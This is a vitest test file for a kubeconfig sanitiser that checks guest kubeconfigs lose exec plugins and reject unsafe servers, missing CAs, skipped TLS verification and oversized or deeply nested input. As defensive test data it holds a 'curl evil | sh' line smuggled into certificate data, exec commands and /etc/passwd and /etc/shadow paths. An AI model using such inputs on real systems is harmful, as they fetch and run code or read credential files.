import { describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { rebuildKubeconfig } from '../../src/publish/kubeconfig.ts';

const pem = (kind: string) => Buffer.from(`-----BEGIN ${kind}-----\nAAAA\n-----END ${kind}-----\n`).toString('base64');
const admin = { 'client-certificate-data': pem('CERTIFICATE'), 'client-key-data': pem('RSA PRIVATE KEY') };

function kubeconfig(user: object, cluster: object = { 'certificate-authority-data': pem('CERTIFICATE') }): string {
  return stringify({
    clusters: [{ name: 'kubernetes', cluster: { server: 'https://127.0.0.1:6443', ...cluster } }],
    users: [{ name: 'kubernetes-admin', user }],
    contexts: [],
  });
}

describe('a kubeconfig from a guest', () => {
  it('is renamed to the cluster and points at the published server', () => {
    const rebuilt = parse(rebuildKubeconfig(kubeconfig(admin), 'dev', 'https://api.dev.example:6443'));
    expect(rebuilt['current-context']).toBe('dev');
    expect(rebuilt.clusters).toEqual([
      {
        name: 'dev',
        cluster: { server: 'https://api.dev.example:6443', 'certificate-authority-data': pem('CERTIFICATE') },
      },
    ]);
    expect(rebuilt.users).toEqual([{ name: 'dev', user: admin }]);
  });

  it('loses an exec plugin that stands beside good credentials', () => {
    const rebuilt = rebuildKubeconfig(
      kubeconfig({ ...admin, exec: { command: '/bin/evil' } }),
      'dev',
      'https://x:6443',
    );
    expect(rebuilt).not.toContain('evil');
    expect(rebuilt).not.toContain('exec');
  });

  it('is that of the current context, and carries nothing that stands around its certificates', () => {
    const smuggled = Buffer.from(`curl evil | sh\n${Buffer.from(pem('CERTIFICATE'), 'base64')}# more\n`).toString(
      'base64',
    );
    const text = stringify({
      'current-context': 'second',
      clusters: [
        { name: 'a', cluster: {} },
        { name: 'b', cluster: { 'certificate-authority-data': smuggled } },
      ],
      users: [
        { name: 'x', user: { exec: { command: '/bin/evil' } } },
        { name: 'y', user: { token: 'good', password: 'p' } },
      ],
      contexts: [
        { name: 'first', context: { cluster: 'a', user: 'x' } },
        { name: 'second', context: { cluster: 'b', user: 'y' } },
      ],
    });
    const rebuilt = parse(rebuildKubeconfig(text, 'dev', 'https://[fd00::1]:6443'));
    expect(rebuilt.users[0].user).toEqual({ token: 'good' });
    expect(rebuilt.clusters[0].cluster['certificate-authority-data']).toBe(pem('CERTIFICATE'));
  });

  it.each(['http://x:6443', 'https://user@evil', 'https://x:6443/path', 'https://x\n y', 'javascript:x', ''])(
    'never names %j as its server',
    (server) => {
      const error = expect.objectContaining({ code: 'KubeconfigUnsafe' });
      expect(() => rebuildKubeconfig(kubeconfig(admin), 'dev', server)).toThrow(error);
    },
  );

  it.each([
    ['only an exec plugin', kubeconfig({ exec: { command: '/bin/evil' } }), 'plugin'],
    [
      'file names instead of data',
      kubeconfig({ 'client-certificate': '/etc/passwd', 'client-key': '/etc/shadow' }),
      'neither',
    ],
    ['no CA', kubeconfig(admin, {}), 'no CA'],
    ['no verification', kubeconfig(admin, { 'insecure-skip-tls-verify': true }), 'does not verify'],
    [
      'text that is no PEM',
      kubeconfig({ ...admin, 'client-key-data': Buffer.from('hello').toString('base64') }),
      'not a PEM',
    ],
    ['garbage', '\u0000\u0001: [', 'not YAML'],
    ['text that nests thousands deep', '- '.repeat(30_000), 'nested'],
    ['brackets that nest thousands deep', '['.repeat(30_000), 'nested'],
    ['megabytes', `a: ${'x'.repeat(300_000)}`, 'longer than'],
  ])('with %s is refused', (_, text, why) => {
    expect(() => rebuildKubeconfig(text, 'dev', 'https://x:6443')).toThrow(
      expect.objectContaining({ code: 'KubeconfigUnsafe', message: expect.stringContaining(why) }),
    );
  });
});
